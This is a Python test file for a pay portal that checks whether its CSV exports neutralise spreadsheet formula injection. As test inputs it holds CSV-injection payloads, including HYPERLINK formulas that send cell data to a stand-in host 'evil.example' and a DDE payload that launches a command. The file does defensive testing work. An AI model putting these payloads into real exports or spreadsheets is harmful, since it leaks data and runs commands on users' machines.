"""What is exported to be opened elsewhere: a spreadsheet runs nothing, a calendar and a feed gain no line of their own."""

import csv
import io
import re
from pathlib import Path
from typing import Final

from hypothesis import given
from hypothesis import strategies as st

from services.salaries.export import _unrun
from tests.portal.pay.making import benchmark, updated
from tests.portal.portal import Portal

ROOT: Final = Path(__file__).parents[2]
STARTERS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "|")
"""OWASP, CSV injection: what makes a cell a formula in Excel, LibreOffice or Google Sheets; `|` starts DDE in some."""
WRITES_CSV: Final = {
    "services/salaries/export.py": "test_export.py: no text is a formula",
    "services/portal/pay/store.py": "below",
    "services/matching/supporter_template.py": "a template: words of our own",
    "services/portal/library/offering/structure_csv.py": "into a form, to be read again: nothing may be put before a text",
    "deploy/local/boards/faces/spreadsheet.py": "a sample board, which stands for the world",
}

hostile = st.builds(lambda start, rest: start + rest, st.sampled_from(STARTERS), st.text(max_size=20))


def test_every_place_that_writes_csv_is_known() -> None:
    """A new export cannot be forgotten here."""
    found = {
        str(path.relative_to(ROOT))
        for folder in ("services", "deploy", "contracts/loti_contracts")
        for path in (ROOT / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(|format=\"csv\"", path.read_text(encoding="utf-8"))
    }
    assert found == set(WRITES_CSV)


async def test_the_portals_table_of_pay_runs_nothing(portal: Portal) -> None:
    """Whatever a benchmark calls its role: in the CSV it begins with an apostrophe where a spreadsheet would run it, and is
    one cell."""
    names = [f'{start}HYPERLINK("http://evil.example?"&A1,"x")' for start in STARTERS] + [
        "=cmd|' /C calc'!A0"
    ]
    for number, name in enumerate(names):
        cell = benchmark("Data analyst").model_copy(update={"id": f"{name}.{number}", "standard_role": name})
        await portal.hears(updated(cell))
    answer = await portal.get("/pay.csv")
    lines = list(csv.reader(io.StringIO(answer.text, newline="")))
    assert len(lines) == len(names) + 1
    for line in lines[1:]:
        assert not [cell for cell in line if cell.startswith(STARTERS) and not _is_number(cell)]
    assert answer.headers["content-disposition"].startswith("attachment")
    assert answer.headers["x-content-type-options"] == "nosniff"


@given(hostile)
def test_both_ways_of_writing_agree(text: str) -> None:
    """What salaries' own export writes is never a formula either."""
    assert str(_unrun(text)).startswith("'")


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None
